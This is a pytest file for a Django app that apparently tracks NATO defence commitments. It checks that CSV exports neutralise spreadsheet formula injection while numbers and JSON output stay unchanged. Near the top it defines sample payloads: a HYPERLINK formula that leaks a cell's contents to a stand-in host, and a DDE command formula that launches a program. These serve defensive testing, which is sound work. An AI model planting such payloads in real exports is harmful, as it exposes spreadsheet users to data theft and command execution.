"""CSV exports are safe to open in a spreadsheet (OWASP's CSV injection advice): a text
cell starting with = + - @, a tab or a carriage return is prefixed with a quote, so it
reads as text, not as a formula. Numbers stay numbers; JSON is unchanged."""

import csv
import io
import json
from decimal import Decimal

import pytest

from commitments.models import Ally, Indicator, Measurement
from nato_tracker.exports import csv_cell
from tests.factories import make_commitment

FORMULA = '=HYPERLINK("http://example.test/?leak="&A1,"open")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        (COMMAND, "'" + COMMAND),
        ("+33 1 23 45", "'+33 1 23 45"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (["=1+1", "chiffre"], "'=1+1; chiffre"),
        ("au moins 2 % du PIB", "au moins 2 % du PIB"),
        ("2 %", "2 %"),
        ("", ""),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (Decimal("-0.45"), Decimal("-0.45")),
        (-3, -3),
        (2024, 2024),
        (-1.5, -1.5),
    ],
)
def test_csv_cells(value, cell):
    assert csv_cell(value) == cell


def body(response):
    return b"".join(response.streaming_content).decode("utf-8")


def rows(response):
    return list(csv.DictReader(io.StringIO(body(response).lstrip("\ufeff"))))


@pytest.mark.django_db
def test_an_editor_written_formula_reaches_the_csv_as_text_and_the_json_as_written(client):
    commitment = make_commitment(title=FORMULA, review="confirmed")
    exported = next(
        r for r in rows(client.get("/commitments/export.csv")) if r["slug"] == commitment.slug
    )
    assert exported["title"] == "'" + FORMULA
    items = json.loads(body(client.get("/commitments/export.json")))
    assert next(i for i in items if i["slug"] == commitment.slug)["title"] == FORMULA


@pytest.mark.django_db
def test_a_figure_source_formula_is_neutralised_and_the_figure_stays_a_number(client):
    indicator = Indicator.objects.get(slug="defence-expenditure-gdp")
    Measurement.objects.create(
        indicator=indicator,
        ally=Ally.objects.get(iso3="POL"),
        year=1990,
        value=Decimal("1.40"),
        edition="2025-06",
        source=COMMAND,
    )
    (row,) = rows(client.get("/measurements.csv", {"ally": "POL", "year": "1990"}))
    assert row["source"] == "'" + COMMAND
    assert row["value"] == "1.40"
    (item,) = json.loads(body(client.get("/measurements.json", {"ally": "POL", "year": "1990"})))
    assert (item["source"], item["value"]) == (COMMAND, "1.40")
